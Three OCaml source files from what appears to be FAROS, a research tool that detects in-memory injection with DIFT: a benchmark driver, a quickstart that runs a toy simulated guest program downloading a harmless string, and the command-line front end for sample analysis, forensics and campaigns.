  Fmt.pf pp "wrote BENCH_diftfast.json@."

(* -- observability overhead ----------------------------------------------- *)

(* End-to-end cost of the whole-pipeline observability layer per Table-V
   workload: the full analyze pipeline (record + replay + FAROS) with
   obs disabled (null profile/sink — every instrumentation point is one
   branch), with only the JSONL sink enabled (the <=5% target), with the
   span profiler enabled, and with the works (profiler + sink + trace
   collector).  The profiler times every instruction step, so its cost
   scales with span density, like any tracing profiler; the sink's cost
   is per emitted line and must stay in the noise.  Emits BENCH_obs.json
   so the trajectory is tracked across PRs. *)
let obs_bench () =
  section "obs: whole-pipeline profiler and telemetry overhead";
  Fmt.pf pp "%-16s %-12s %-20s %-20s %-20s %s@." "application" "base (s)"
    "sink (s)" "profiled (s)" "full obs (s)" "spans";
  let rows =
    List.map
      (fun (label, scn) ->
        let base () = ignore (Faros_corpus.Scenario.analyze scn) in
        let sink_only () =
          ignore
            (Faros_corpus.Scenario.analyze ~sink:(Faros_obs.Sink.create ())
               scn)
        in
        let profiled () =
          ignore
            (Faros_corpus.Scenario.analyze
               ~profile:(Faros_obs.Profile.create ())
               scn)
        in
        let full () =
          ignore
            (Faros_corpus.Scenario.analyze
               ~profile:(Faros_obs.Profile.create ())
               ~sink:(Faros_obs.Sink.create ())
               ~trace_sink:(Faros_obs.Trace.collector ())
               scn)
        in
        let t_base = time_runs ~reps:5 base in
        let t_sink = time_runs ~reps:5 sink_only in
        let t_prof = time_runs ~reps:5 profiled in
        let t_full = time_runs ~reps:5 full in
        (* one instrumented run to count the spans actually attributed *)
        let profile = Faros_obs.Profile.create () in
        ignore (Faros_corpus.Scenario.analyze ~profile scn);
        let spans = List.length (Faros_obs.Profile.spans profile) in
        let pct t = (t /. t_base -. 1.0) *. 100. in
        Fmt.pf pp "%-16s %-12.4f %-20s %-20s %-20s %d@." label t_base
          (Printf.sprintf "%.4f %+.1f%%" t_sink (pct t_sink))
          (Printf.sprintf "%.4f %+.1f%%" t_prof (pct t_prof))
          (Printf.sprintf "%.4f %+.1f%%" t_full (pct t_full))
          spans;
        (label, t_base, t_sink, t_prof, t_full, spans))
      (Faros_corpus.Perf.workloads ())
  in
  let json =
    Printf.sprintf {|{"bench":"obs","runs":[%s]}|}
      (String.concat ","
         (List.map
            (fun (label, t_base, t_sink, t_prof, t_full, spans) ->
              Printf.sprintf
                {|{"workload":"%s","base_s":%.6f,"sink_s":%.6f,"profiled_s":%.6f,"full_s":%.6f,"sink_overhead":%.4f,"profiled_overhead":%.4f,"full_overhead":%.4f,"spans":%d}|}
                label t_base t_sink t_prof t_full (t_sink /. t_base)
                (t_prof /. t_base) (t_full /. t_base) spans)
            rows))
  in
  let oc = open_out "BENCH_obs.json" in
  output_string oc json;
  close_out oc;
  Fmt.pf pp "wrote BENCH_obs.json@.";
  Fmt.pf pp
    "(target: sink-enabled overhead <=5%% of the base analyze; the disabled@.";
  Fmt.pf pp
    " path is pinned byte-identical by the test suite's overhead test)@."

(* -- attack-graph overhead ------------------------------------------------ *)

(* Replay cost of the online attack-graph builder: the FAROS plugin alone
   vs FAROS + graph plugin + offline enrichment, over the Table V perf
   workloads.  Emits BENCH_graph.json so the overhead is tracked across
   PRs. *)
let graph_bench () =
  section "graph: attack-graph builder overhead (plugin off vs on)";
  Fmt.pf pp "%-16s %-14s %-14s %-10s %-8s %s@." "application" "faros (s)"
    "faros+graph" "overhead" "nodes" "edges";
  let rows =
    List.map
      (fun (label, scn) ->
        let _k, trace = Faros_corpus.Scenario.record scn in
        let without () =
          ignore
            (Faros_corpus.Scenario.replay_with scn
               ~plugins:(fun kernel ->
                 let faros = Core.Faros_plugin.create kernel in
                 [ Core.Faros_plugin.plugin faros ])
               trace)
        in
        let nodes = ref 0 and edges = ref 0 in
        let with_graph () =
          let state = ref None in
          ignore
            (Faros_corpus.Scenario.replay_with scn
               ~plugins:(fun kernel ->
                 let faros = Core.Faros_plugin.create kernel in
                 let b = Faros_graph.Build.create ~sample:label () in
                 state := Some (faros, b);
                 [
                   Core.Faros_plugin.plugin faros;
                   Faros_graph.Build.plugin b ~kernel ~faros;
                 ])
               trace);
          match !state with
          | None -> ()
          | Some (faros, b) ->
            Core.Faros_plugin.finalize faros;
            Faros_graph.Build.enrich b faros;
            let g = Faros_graph.Build.graph b in
            nodes := Faros_graph.Graph.node_count g;
            edges := Faros_graph.Graph.edge_count g
        in
        let t_off = time_runs ~reps:3 without in
        let t_on = time_runs ~reps:3 with_graph in
        Fmt.pf pp "%-16s %-14.4f %-14.4f %-10s %-8d %d@." label t_off t_on
          (Printf.sprintf "%.2fx" (t_on /. t_off))
          !nodes !edges;
        (label, t_off, t_on, !nodes, !edges))
      (Faros_corpus.Perf.workloads ())
  in
  let json =
    Printf.sprintf {|{"bench":"graph-overhead","runs":[%s]}|}
      (String.concat ","
         (List.map
            (fun (label, t_off, t_on, nodes, edges) ->
              Printf.sprintf
                {|{"workload":"%s","faros_s":%.6f,"faros_graph_s":%.6f,"overhead":%.4f,"nodes":%d,"edges":%d}|}
                label t_off t_on (t_on /. t_off) nodes edges)
            rows))
  in
  let oc = open_out "BENCH_graph.json" in
  output_string oc json;
  close_out oc;
  Fmt.pf pp "wrote BENCH_graph.json@."

(* -- query: bounded-memory incremental builder + forensic store ----------- *)

(* Two claims, measured.  (1) Residency: the streaming builder retains
   O(live entities) while the legacy resident graph retains everything —
   GC-measured retained words of each representation over inject traces
   at 100/500/2000 connections (arrivals paced to the service time, so
   connections quiesce as they complete).  (2) The store: ingest cost of
   a full-corpus campaign's segment rows plus whodunit / origins /
   merged-graph query latency.  Emits BENCH_query.json. *)
let query_bench () =
  section "query: incremental builder residency + store latency";
  (* [Obj.reachable_words] over the graph-side structures themselves —
     the resident {!Faros_graph.Graph.t} on one side, the segment
     writer's live sets on the other — so the comparison isolates the
     graph representation from the rest of the analysis pipeline (the
     builder proper holds the kernel and tag store, identical in both
     configurations). *)
  Fmt.pf pp "%-8s %-16s %-16s %-8s %-14s %s@." "conns" "resident (words)"
    "stream (words)" "ratio" "peak/total" "nodes";
  let rows =
    List.map
      (fun clients ->
        let scn, _, _ =
          Faros_corpus.Servers.inject_under_load ~clients ~worker_close:true
            ~arrival:(Faros_netd.Gen.Uniform 1000)
            ~name:(Printf.sprintf "bench_query_%d" clients)
            ()
        in
        let _k, trace = Faros_corpus.Scenario.record scn in
        let replay ~resident ~consumer =
          let state = ref None in
          ignore
            (Faros_corpus.Scenario.replay_with scn
               ~plugins:(fun kernel ->
                 let faros = Core.Faros_plugin.create kernel in
                 let b =
                   Faros_graph.Build.create ~resident ?consumer
                     ~sample:"bench_query" ()
                 in
                 state := Some (faros, b);
                 [
                   Core.Faros_plugin.plugin faros;
                   Faros_graph.Build.plugin b ~kernel ~faros;
                 ])
               trace);
          let faros, b = Option.get !state in
          Core.Faros_plugin.finalize faros;
          Faros_graph.Build.enrich b faros;
          (faros, b)
        in
        (* legacy one-shot graph: everything the builder retains at the
           end of the analysis (the full resident graph) *)
        let _, b = replay ~resident:true ~consumer:None in
        let g = Faros_graph.Build.graph b in
        let resident_words = Obj.reachable_words (Obj.repr g) in
        let total_nodes = Faros_graph.Graph.node_count g in
        let total_edges = Faros_graph.Graph.edge_count g in
        (* incremental: rows stream to disk; what stays is the builder's
           ordinal index plus the writer's live sets (measured before
           [close] drains the final segment) *)
        let tmp = Filename.temp_file "faros_bench_query" ".jsonl" in
        let oc = open_out tmp in
        let writer =
          Faros_query.Segment.writer
            ~sink:(Faros_obs.Sink.channel oc)
            ~run:"bench_query" ()
        in
        let _sb =
          replay ~resident:false
            ~consumer:(Some (Faros_query.Segment.consume writer))
        in
        let stream_words = Obj.reachable_words (Obj.repr writer) in
        Faros_query.Segment.close writer;
        close_out oc;
        let st = Faros_query.Segment.stats writer in
        Sys.remove tmp;
        Fmt.pf pp "%-8d %-16d %-16d %-8s %-14s %d@." clients resident_words
          stream_words
          (Printf.sprintf "%.1fx"
             (float resident_words /. float (max 1 stream_words)))
          (Printf.sprintf "%d/%d" st.st_peak_live_nodes st.st_spilled_nodes)
          total_nodes;
        (clients, resident_words, stream_words, st, total_nodes, total_edges))
      [ 100; 500; 2000 ]
  in
  (* the store over a full-corpus campaign's segments *)
  let c =
    Faros_farm.Campaign.run ~workers:4 ~graph_segments:true
      (Faros_corpus.Registry.all ())
  in
  let seg_rows =
    List.concat_map
      (fun (r : Faros_farm.Campaign.job_result) -> r.jr_segments)
      c.results
  in
  let timed f =
    let t0 = Unix.gettimeofday () in
    let v = f () in
    (v, Unix.gettimeofday () -. t0)
  in
  let store = Faros_query.Store.create () in
  let _, ingest_s =
    timed (fun () ->
        match Faros_query.Store.ingest_lines store seg_rows with
        | Ok n -> n
        | Error e -> failwith e)
  in
  let slices, slice_s =
    timed (fun () ->
        List.fold_left
          (fun acc run ->
            match Faros_query.Store.run_graph store run with
            | Ok g -> acc + List.length (Faros_graph.Slice.slices g)
            | Error e -> failwith e)
          0
          (Faros_query.Store.runs store))
  in
  let origins, origins_s =
    timed (fun () ->
        match Faros_query.Store.origins store with
        | Ok os -> List.length os
        | Error e -> failwith e)
  in
  let merged, merged_s =
    timed (fun () ->
        match Faros_query.Store.merged_graph store with
        | Ok g -> Faros_graph.Graph.node_count g
        | Error e -> failwith e)
  in
  let t = Faros_query.Store.totals store in
  Fmt.pf pp
    "store: %d runs / %d rows ingested in %.3fs; %d slices in %.3fs, %d \
     origins in %.3fs, merged graph (%d nodes) in %.3fs@."
    t.t_runs t.t_rows ingest_s slices slice_s origins origins_s merged
    merged_s;
  let json =
    Printf.sprintf
      {|{"bench":"query","incremental":[%s],"store":{"runs":%d,"rows":%d,"ingest_s":%.6f,"slices":%d,"slice_s":%.6f,"origins":%d,"origins_s":%.6f,"merged_nodes":%d,"merged_s":%.6f}}|}
      (String.concat ","
         (List.map
            (fun (clients, rw, sw, (st : Faros_query.Segment.stats), n, e) ->
              Printf.sprintf
                {|{"clients":%d,"resident_words":%d,"stream_words":%d,"ratio":%.2f,"peak_live_nodes":%d,"peak_live_edges":%d,"spilled_nodes":%d,"spilled_edges":%d,"patch_rows":%d,"segments":%d,"total_nodes":%d,"total_edges":%d}|}
                clients rw sw
                (float rw /. float (max 1 sw))
                st.st_peak_live_nodes st.st_peak_live_edges st.st_spilled_nodes
                st.st_spilled_edges st.st_patch_rows st.st_segments n e)
            rows))
      t.t_runs t.t_rows ingest_s slices slice_s origins origins_s merged
      merged_s
  in
  let oc = open_out "BENCH_query.json" in
  output_string oc json;
  close_out oc;
  Fmt.pf pp "wrote BENCH_query.json@."

(* -- netd: server throughput under inbound load --------------------------- *)

(* Replay-side connection throughput of the benign netd server at
   100/500/1000 concurrent clients: bare deterministic replay (FAROS
   off — the fast-path toggle is a no-op there), FAROS with the
   demand-driven fast path off, and FAROS with it on.  The headline
   number is connections/sec surviving full whole-system DIFT.  Emits
   BENCH_netd.json so the trajectory is tracked across PRs. *)
let netd_bench () =
  section "netd: server replay throughput (connections/sec under DIFT)";
  Fmt.pf pp "%-8s %-20s %-24s %s@." "clients" "replay (s, c/s)"
    "faros slow (s, c/s)" "faros fast (s, c/s)";
  let rows =
    List.map
      (fun clients ->
        let scn, _schd =
          Faros_corpus.Servers.benign_load ~clients
            ~name:(Printf.sprintf "bench_netd_%d" clients)
            ()
        in
        let _k, trace = Faros_corpus.Scenario.record scn in
        let replay_plain () =
          ignore (Faros_corpus.Scenario.replay_plain ~tb_cache:true scn trace)
        in
        let replay_faros ~dift_fast () =
          ignore
            (Faros_corpus.Scenario.replay_with scn ~tb_cache:true ~dift_fast
               ~plugins:(fun kernel ->
                 let faros = Core.Faros_plugin.create kernel in
                 [ Core.Faros_plugin.plugin faros ])
               trace)
        in
        let reps = if clients >= 1000 then 2 else 3 in
        let t_plain = time_runs ~reps replay_plain in
        let t_slow = time_runs ~reps (replay_faros ~dift_fast:false) in
        let t_fast = time_runs ~reps (replay_faros ~dift_fast:true) in
        let cps t = float clients /. t in
        Fmt.pf pp "%-8d %-20s %-24s %s@." clients
          (Printf.sprintf "%.4f %.0f" t_plain (cps t_plain))
          (Printf.sprintf "%.4f %.0f" t_slow (cps t_slow))
          (Printf.sprintf "%.4f %.0f" t_fast (cps t_fast));
        (clients, t_plain, t_slow, t_fast))
      [ 100; 500; 1000 ]
  in
  let json =
    Printf.sprintf {|{"bench":"netd","runs":[%s]}|}
      (String.concat ","
         (List.map
            (fun (clients, t_plain, t_slow, t_fast) ->
              Printf.sprintf
                {|{"clients":%d,"replay_s":%.6f,"faros_s":%.6f,"faros_fast_s":%.6f,"replay_cps":%.1f,"faros_cps":%.1f,"faros_fast_cps":%.1f,"faros_overhead":%.4f,"fast_gain":%.4f}|}
                clients t_plain t_slow t_fast
                (float clients /. t_plain)
                (float clients /. t_slow)
                (float clients /. t_fast)
                (t_slow /. t_plain) (t_slow /. t_fast))
            rows))
  in
  let oc = open_out "BENCH_netd.json" in
  output_string oc json;
  close_out oc;
  Fmt.pf pp "wrote BENCH_netd.json@."

(* -- driver --------------------------------------------------------------- *)

let sections =
  [
    ("table1", table1);
    ("table2", table2);
    ("fig7", fig7);
    ("fig8", fig8);
    ("fig9", fig9);
    ("fig10", fig10);
    ("fig4", fig4);
    ("inject", inject);
    ("table3", table3);
    ("table4", table4);
    ("table5", table5);
    ("cuckoo", cuckoo);
    ("indirect", indirect);
    ("ablation", ablation);
    ("evasion", evasion);
    ("tomography", tomography);
    ("memory", memory);
    ("campaign", campaign);
    ("tbcache", tbcache);
    ("diftfast", diftfast);
    ("obs", obs_bench);
    ("graph", graph_bench);
    ("query", query_bench);
    ("netd", netd_bench);
    ("micro", micro);
  ]

let () =
  let requested =
    match Array.to_list Sys.argv with
    | [] | [ _ ] -> List.map fst sections
    | _ :: rest -> rest
  in
  List.iter
    (fun name ->
      match List.assoc_opt name sections with
      | Some f -> f ()
      | None ->
        Fmt.pf pp "unknown section %S; available: %s@." name
          (String.concat " " (List.map fst sections)))
    requested;
  Fmt.pf pp "@.done.@."
