(* Quickstart: the full FAROS workflow on a hand-written guest program.

     dune exec examples/quickstart.exe

   We write a tiny piece of "malware" in the guest assembly DSL: it
   downloads a string from a remote server and stores it into its own
   memory.  Then we record the execution, replay it under the FAROS plugin,
   and inspect the provenance the DIFT engine attached to those bytes. *)

open Faros_vm
open Faros_corpus

let server_ip = "203.0.113.9"

(* A guest program: connect, receive 13 bytes, copy them to a buffer. *)
let demo_image =
  Faros_os.Pe.of_program ~name:"demo.exe" ~base:Faros_os.Process.image_base
    ~exports:[ "copy_buf" ]  (* exported so we can find it afterwards *)
    (List.concat
       [
         [ Progs.lbl "start" ];
         Progs.connect_raw ~ip:server_ip ~port:80;
         (* recv(sock, rx_buf, 13) *)
         [
           Progs.movr Isa.r1 Isa.r7;
           Progs.lea_label Isa.r2 "rx_buf";
           Progs.movi Isa.r3 13;
         ];
         Progs.syscall Faros_os.Syscall.sys_recv;
         (* memcpy(copy_buf, rx_buf, 13) *)
         [
           Asm.Mov_label (Isa.r1, "copy_buf");
           Asm.Mov_label (Isa.r2, "rx_buf");
           Progs.movi Isa.r3 13;
           Asm.Call_l "memcpy";
         ];
         [ Progs.halt ];
         Progs.memcpy_sub ~label:"memcpy";
         Progs.buffer "rx_buf" 16;
         Progs.buffer "copy_buf" 16;
       ])

let scenario =
  Scenario.make "quickstart"
    ~images:[ ("demo.exe", demo_image) ]
    ~actors:
      [
        {
          Faros_os.Netstack.actor_name = "server";
          actor_ip = Faros_os.Types.Ip.of_string server_ip;
          actor_port = 80;
          on_connect = (fun _ -> [ "hello, taint!" ]);
          on_data = (fun _ _ -> []);
        };
      ]
    ~boot:[ "demo.exe" ]

let () =
  Fmt.pr "1. record the execution (live network actor answering)@.";
  let _kernel, trace = Scenario.record scenario in
  Fmt.pr "   recorded %d instructions, %d network chunk(s), %d rx bytes@."
    trace.final_tick
    (Faros_replay.Trace.packet_count trace)
    (Faros_replay.Trace.total_rx_bytes trace);

  Fmt.pr "2. replay deterministically under the FAROS plugin@.";
  let outcome = Scenario.analyze scenario in
  Fmt.pr "   replay diverged: %b@." outcome.replay.diverged;
  let s = Faros_dift.Engine.stats outcome.faros.engine in
  Fmt.pr
    "   %d instructions analyzed; %d tainted bytes; %d netflow / %d process / %d file tags@."
    s.instrs s.tainted_bytes s.netflow_tags s.process_tags s.file_tags;

  Fmt.pr "3. inspect the provenance of the copied buffer@.";
  let kernel = outcome.faros.kernel in
  let p = List.hd (Faros_os.Kstate.processes kernel) in
  let copy_buf = List.assoc "copy_buf" demo_image.exports in
  let paddr =
    Faros_vm.Mmu.translate kernel.machine.mmu ~asid:(Faros_os.Process.asid p)
      copy_buf
  in
  let prov = Faros_dift.Shadow.get_mem outcome.faros.engine.shadow paddr in
  Fmt.pr "   copy_buf[0] provenance (newest first): %a@." Faros_dift.Provenance.pp
    prov;
  Fmt.pr "   rendered: %s@."
    (Core.Report.render_provenance ~store:outcome.faros.engine.store
       ~name_of_asid:(Core.Faros_plugin.name_of_asid kernel)
       prov);

  Fmt.pr "4. detection verdict: %s@."
    (if Core.Report.flagged outcome.report then "FLAGGED" else "clean");
  Fmt.pr
    "   (data from the network was copied but never executed against the export table,@.";
  Fmt.pr "    so FAROS stays quiet — run reflective_injection.exe for the attack case)@."
