(* faros — command-line front end.

     faros list                     enumerate the sample corpus
     faros run <id> [--policy P] [--whitelist-jit] [--verbose]
                                    record + replay a sample under FAROS
     faros record <id> -o t.ftr     record and save a trace file
     faros replay <id> -i t.ftr [--policy P]
                                    analyze a previously saved trace
     faros events <id>              Cuckoo-style event trace of a sample
     faros malfind <id>             snapshot forensics on a sample
     faros compare <id>             FAROS vs Cuckoo/malfind on one sample
     faros ps <id>                  end-of-run pslist of a sample
     faros stats <id>               full metrics registry after analysis
     faros check-json <file> [--jsonl]
                                    JSON / JSON-Lines well-formedness check
     faros profile run <id>         span-profile one sample, print hotspots
     faros taint <id>               post-analysis taint map
     faros strings <id>             provenance-aware strings
     faros disasm <id>              disassemble a sample's images
     faros campaign [-j N] [--corpus SET] [--filter GLOB] [--json OUT] [--csv OUT]
                    [--profile] [--stats] [--progress]
                    [--jsonl-out OUT] [--trace-out OUT] [--graph-out DIR]
                                    run the corpus on a parallel worker pool
     faros query <dir> [--run ID] [--origins] [--flows SPEC]
                                    cross-run whodunit over a segment store
     faros sweep                    run the whole corpus against expectations
                                    (alias for `campaign -j 1`)
     faros policies                 list the available DIFT policies *)

let pp = Format.std_formatter

let list_cmd netd =
  let samples =
    Faros_corpus.Registry.all ()
    @ Faros_corpus.Registry.transient_attacks ()
    @ Faros_corpus.Registry.evasive_attacks ()
    @ Faros_corpus.Registry.extended_attacks ()
    @ Faros_corpus.Registry.extras ()
    @ (if netd then
         Faros_corpus.Registry.netd_showcase ()
         @ Faros_corpus.Registry.netd_sweeps ()
       else [])
  in
  Fmt.pf pp "%-40s %-22s %s@." "id" "category" "expected";
  List.iter
    (fun (s : Faros_corpus.Registry.sample) ->
      Fmt.pf pp "%-40s %-22s %s@." s.id
        (Fmt.str "%a" Faros_corpus.Registry.pp_category s.category)
        (match s.expected with
        | Faros_corpus.Registry.Expect_flag -> "flag"
        | Expect_clean -> "clean"))
    samples;
  Fmt.pf pp "%d samples@." (List.length samples);
  0

let find_sample id =
  match Faros_corpus.Registry.find id with
  | Some s -> Ok s
  | None -> Error (Printf.sprintf "unknown sample %S (try `faros list`)" id)

let find_policy name =
  List.find_opt
    (fun (p : Faros_dift.Policy.t) -> p.policy_name = name)
    Faros_dift.Policy.all

let build_config ?(block = false) ~policy ~whitelist_jit () =
  let config =
    if whitelist_jit then
      Core.Config.with_whitelist Core.Whitelist.jit_default Core.Config.default
    else Core.Config.default
  in
  let config = if block then Core.Config.with_block_processing config else config in
  match policy with
  | None -> Ok config
  | Some name -> (
    match find_policy name with
    | Some p -> Ok (Core.Config.with_policy p config)
    | None ->
      Error
        (Printf.sprintf "unknown policy %S (try `faros policies`)" name))

let print_outcome_json (outcome : Core.Analysis.outcome) =
  Fmt.pf pp "%s@."
    (Core.Report.to_json ~store:outcome.faros.engine.store
       ~name_of_asid:(Core.Faros_plugin.name_of_asid outcome.faros.kernel)
       outcome.report);
  0

let print_outcome sample_id verbose (outcome : Core.Analysis.outcome) =
  Fmt.pf pp "sample:       %s@." sample_id;
  Fmt.pf pp "record:       %d instructions, %d packets, %d rx bytes@."
    outcome.trace.final_tick
    (Faros_replay.Trace.packet_count outcome.trace)
    (Faros_replay.Trace.total_rx_bytes outcome.trace);
  Fmt.pf pp "replay:       %d instructions, diverged: %b@."
    outcome.replay.replay_ticks outcome.replay.diverged;
  let s = Faros_dift.Engine.stats outcome.faros.engine in
  Fmt.pf pp
    "taint:        %d instrs processed, %d tainted bytes, tags: %d netflow / %d process / %d file@."
    s.instrs s.tainted_bytes s.netflow_tags s.process_tags s.file_tags;
  Fmt.pf pp "verdict:      %s@."
    (if Core.Report.flagged outcome.report then "IN-MEMORY INJECTION FLAGGED"
     else "clean");
  Fmt.pf pp "%s@." (Core.Report.summary outcome.report);
  if Core.Report.flagged outcome.report || verbose then
    Core.Faros_plugin.pp_report pp outcome.faros;
  0

let write_file path data =
  let oc = open_out_bin path in
  output_string oc data;
  close_out oc

let run_cmd id policy whitelist_jit verbose json block trace_out series_out =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample -> (
    match build_config ~block ~policy ~whitelist_jit () with
    | Error e ->
      prerr_endline e;
      1
    | Ok config ->
      let trace_sink =
        match trace_out with
        | None -> Faros_obs.Trace.null
        | Some _ -> Faros_obs.Trace.collector ()
      in
      let telemetry =
        match series_out with
        | None -> None
        | Some _ -> Some (Core.Telemetry.create ())
      in
      let outcome =
        Faros_corpus.Scenario.analyze ~config ~trace_sink ?telemetry
          sample.scenario
      in
      let status =
        if json then print_outcome_json outcome
        else print_outcome sample.id verbose outcome
      in
      (match trace_out with
      | Some path ->
        write_file path (Faros_obs.Trace.to_chrome_json trace_sink);
        Fmt.pf pp "trace:        %d events (%d dropped) -> %s@."
          (Faros_obs.Trace.count trace_sink)
          (Faros_obs.Trace.dropped trace_sink)
          path
      | None -> ());
      (match (series_out, telemetry) with
      | Some path, Some t ->
        let data =
          if Filename.check_suffix path ".json" then Core.Telemetry.to_json t
          else Core.Telemetry.to_csv t
        in
        write_file path data;
        Fmt.pf pp "series:       %d sample(s) -> %s@."
          (Faros_obs.Series.total (Core.Telemetry.series t))
          path
      | _ -> ());
      status)

(* Full metrics registry after analyzing one sample. *)
let stats_cmd id policy block =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample -> (
    match build_config ~block ~policy ~whitelist_jit:false () with
    | Error e ->
      prerr_endline e;
      1
    | Ok config ->
      let outcome = Faros_corpus.Scenario.analyze ~config sample.scenario in
      Fmt.pf pp "sample:  %s@." sample.id;
      Fmt.pf pp "verdict: %s@."
        (if Core.Report.flagged outcome.report then "IN-MEMORY INJECTION FLAGGED"
         else "clean");
      Faros_obs.Metrics.pp_table pp outcome.faros.metrics;
      0)

(* JSON well-formedness check (the repo carries no external JSON parser).
   With --jsonl every non-blank line must be its own well-formed
   document — the unified streaming sink's format. *)
let check_json_cmd jsonl path =
  let data =
    let ic = open_in_bin path in
    let n = in_channel_length ic in
    let b = really_input_string ic n in
    close_in ic;
    b
  in
  if jsonl then
    match Faros_obs.Json.well_formed_lines data with
    | Ok lines ->
      Fmt.pf pp "%s: well-formed JSONL (%d lines, %d bytes)@." path lines
        (String.length data);
      0
    | Error (line, msg) ->
      Fmt.epr "%s: malformed JSONL at line %d: %s@." path line msg;
      1
  else
    match Faros_obs.Json.well_formed data with
    | Ok () ->
      Fmt.pf pp "%s: well-formed JSON (%d bytes)@." path (String.length data);
      0
    | Error msg ->
      Fmt.epr "%s: malformed JSON: %s@." path msg;
      1

(* Record a sample and save its trace file. *)
let record_cmd id out =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample ->
    let _kernel, trace = Faros_corpus.Scenario.record sample.scenario in
    let data = Faros_replay.Trace.serialize trace in
    let oc = open_out_bin out in
    output_string oc data;
    close_out oc;
    Fmt.pf pp "recorded %s: %d instructions, %d events, %d trace bytes -> %s@."
      sample.id trace.final_tick
      (List.length trace.events)
      (String.length data) out;
    0

(* Analyze a previously saved trace under FAROS. *)
let replay_cmd id input policy verbose =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample -> (
    match build_config ~policy ~whitelist_jit:false () with
    | Error e ->
      prerr_endline e;
      1
    | Ok config -> (
      let data =
        let ic = open_in_bin input in
        let n = in_channel_length ic in
        let b = really_input_string ic n in
        close_in ic;
        b
      in
      match Faros_replay.Trace.parse data with
      | exception Faros_replay.Trace.Bad_trace m ->
        Fmt.epr "bad trace file %s: %s@." input m;
        1
      | trace ->
        let faros_ref = ref None in
        let result =
          Faros_corpus.Scenario.replay_with sample.scenario
            ~plugins:(fun kernel ->
              let faros = Core.Faros_plugin.create ~config kernel in
              faros_ref := Some faros;
              [ Core.Faros_plugin.plugin faros ])
            trace
        in
        let faros = Option.get !faros_ref in
        Fmt.pf pp "replayed %s from %s: %d instructions, diverged: %b@." sample.id
          input result.replay_ticks result.diverged;
        Fmt.pf pp "verdict: %s@."
          (if Core.Report.flagged (Core.Faros_plugin.report faros) then
             "IN-MEMORY INJECTION FLAGGED"
           else "clean");
        if Core.Report.flagged (Core.Faros_plugin.report faros) || verbose then
          Core.Faros_plugin.pp_report pp faros;
        0))

(* Cuckoo-style event trace of a live run. *)
let events_cmd id =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample ->
    let report = ref None in
    let _kernel, _trace =
      Faros_replay.Recorder.record ~max_ticks:sample.scenario.max_ticks
        ~plugins:(fun kernel ->
          let r, plugin = Faros_sandbox.Cuckoo.plugin kernel in
          report := Some r;
          [ plugin ])
        ~setup:(Faros_corpus.Scenario.setup_record sample.scenario)
        ~boot:(Faros_corpus.Scenario.boot sample.scenario)
        ()
    in
    let r = Option.get !report in
    Fmt.pf pp "%a@." Faros_sandbox.Cuckoo.pp_summary r;
    Fmt.pf pp "@.hooked API calls (newest first):@.";
    List.iter
      (fun (c : Faros_sandbox.Cuckoo.api_call) ->
        Fmt.pf pp "  %-24s %s(%s)@." c.ac_process c.ac_api
          (String.concat ", "
             (List.map string_of_int (Array.to_list c.ac_args))))
      r.api_calls;
    0

(* Snapshot forensics: pslist, vadinfo suspects, malfind findings. *)
let malfind_cmd id =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample ->
    let kernel, _ = Faros_corpus.Scenario.record sample.scenario in
    let dump = Faros_sandbox.Memdump.take kernel in
    Fmt.pf pp "pslist:@.";
    List.iter
      (fun pr -> Fmt.pf pp "  %a@." Faros_sandbox.Volatility.pp_process pr)
      (Faros_sandbox.Volatility.pslist dump);
    let suspects = Faros_sandbox.Volatility.hollowing_suspects dump in
    Fmt.pf pp "hollowing suspects: %s@."
      (if suspects = [] then "none"
       else String.concat ", " (List.map string_of_int suspects));
    (match Faros_sandbox.Malfind.scan dump with
    | [] -> Fmt.pf pp "malfind: no injected regions found@."
    | findings ->
      List.iter
        (fun f -> Fmt.pf pp "malfind: %a@." Faros_sandbox.Malfind.pp_finding f)
        findings);
    0

(* Disassemble every image a sample's scenario installs. *)
let disasm_cmd id =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample ->
    List.iter
      (fun (path, (image : Faros_os.Pe.t)) ->
        Fmt.pf pp "@.=== %s (base 0x%08X, entry 0x%08X) ===@." path image.base
          image.entry;
        List.iter
          (fun (sec : Faros_os.Pe.section) ->
            List.iter
              (fun (off, instr) ->
                Fmt.pf pp "0x%08X  %a@." (sec.sec_vaddr + off) Faros_vm.Disasm.pp
                  instr)
              (Faros_vm.Disasm.buffer (Bytes.of_string sec.sec_data)))
          image.sections;
        if image.imports <> [] then
          Fmt.pf pp "imports: %s@."
            (String.concat ", " (List.map fst image.imports)))
      sample.scenario.images;
    0

(* Post-analysis taint map: where tainted data sits after the replay. *)
let taint_cmd id =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample ->
    let outcome = Faros_corpus.Scenario.analyze sample.scenario in
    Fmt.pf pp "%-20s %-10s %s@." "process" "tainted" "netflow-tainted";
    List.iter
      (fun (name, total, netflow) ->
        Fmt.pf pp "%-20s %-10d %d@." name total netflow)
      (Core.Prov_query.summary_by_process outcome.faros);
    Fmt.pf pp "@.tainted regions:@.";
    List.iter
      (fun r -> Fmt.pf pp "%a@." (Core.Prov_query.pp_region ~faros:outcome.faros) r)
      (Core.Prov_query.tainted_regions outcome.faros);
    0

(* Provenance-aware strings over netflow-tainted memory. *)
let strings_cmd id =
  match find_sample id with
  | Error e ->
    prerr_endline e;
    1
  | Ok sample ->
    let outcome = Faros_corpus.Scenario.analyze sample.scenario in
    let found = Core.Prov_query.strings outcome.faros in
    List.iter
      (fun (t : Core.Prov_query.tainted_string) ->
        Fmt.pf pp "%-20s 0x%08X %-24s %s@." t.ts_process t.ts_vaddr
          (Printf.sprintf "%S" t.ts_text)
          (Core.Report.render_provenance ~store:outcome.faros.engine.store
             ~name_of_asid:(Core.Faros_plugin.name_of_asid outcome.faros.kernel)
             t.ts_prov))
      found;
    Fmt.pf pp "%d tainted string(s)@." (List.length found);
    0

(* Run a corpus campaign on a worker pool and compare verdicts to
   expectations: the CI entry point. *)
let campaign_cmd workers corpus filter policy json_out csv_out tick_budget
    deadline profile stats progress jsonl_out trace_out graph_out summary_only
    =
  match build_config ~policy ~whitelist_jit:false () with
  | Error e ->
    prerr_endline e;
    1
  | Ok config -> (
    let samples =
      match corpus with
      | `Core -> Faros_corpus.Registry.all ()
